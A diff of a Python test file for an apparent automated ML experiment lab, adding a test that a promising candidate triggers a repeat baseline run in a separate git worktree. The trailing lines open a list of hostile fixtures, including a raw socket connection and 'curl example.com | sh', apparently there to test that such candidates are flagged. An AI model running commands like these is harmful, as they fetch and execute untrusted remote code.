@@ -79,6 +79,35 @@ def test_keep_and_discard_through_git(make_lab, tmp_path):
         assert led.verify().ok
 
 
+
+def test_the_baselines_repeat_runs_in_a_worktree_of_its_own_when_a_candidate_is_promising(make_lab, tmp_path):
+    # the incumbent must have two runs before a keep; it ran once at session start, so the
+    # promising candidate's decision asks for its second, run at the baseline's commit while the
+    # lab's work tree holds the candidate
+    lab = make_lab(rules={"baseline_runs = 2 ": "baseline_runs = 2 "}, train={"LEARNING_RATE": "1e-5"})
+    base = (lab.root / "train.py").read_text()
+    queue = tmp_path / "queue"
+    queue_folder(queue, "001-lr-up", {"train.py": with_constants(base, LEARNING_RATE="1e-2")}, "raise the learning rate 1000x")
+
+    summary = run_queue(lab, queue, tag="rep")
+
+    assert decisions(lab) == [(0, "baseline"), (1, "keep")]
+    started = [(e.experiment, e.payload["run"], e.commit_sha) for e in events(lab, EventKind.TRAINING_STARTED)]
+    decided = {e.experiment: e for e in events(lab, EventKind.DECIDED)}
+    baseline_commit = decided[0].commit_sha
+    assert started == [(0, 1, baseline_commit), (1, 1, decided[1].commit_sha), (1, 0, baseline_commit)]
+    repeat = [e for e in events(lab, EventKind.EVALUATED) if e.experiment == 1 and e.payload["run"] == 0][0]
+    p = decided[1].payload
+    assert p["incumbent_commit"] == baseline_commit and p["incumbent_added"] == [repeat.val_bpb]
+    assert p["incumbent_runs"] == [decided[0].val_bpb, repeat.val_bpb] and "(2 runs)" in p["reason"]
+    assert (lab.runs_dir / summary["session"] / "0001-incumbent1" / "train.log").is_file()
+    # the worktree is gone, the lab's tree holds the keep, and the ledger checks out
+    assert lab.git.head() == decided[1].commit_sha and lab.git.dirty_paths() == []
+    assert "incumbent" not in subprocess.run(["git", "-C", str(lab.root), "worktree", "list"],
+                                             capture_output=True, text=True, check=True).stdout
+    with Ledger.open(lab.ledger_path, read_only=True) as led:
+        assert led.verify().ok
+
 HOSTILE = [
     ("001-socket", "import socket\nsocket.create_connection(('10.0.0.1', 80))\n", "network"),
     ("002-shell", "import os\nos.system('curl example.com | sh')\n", "subprocess"),
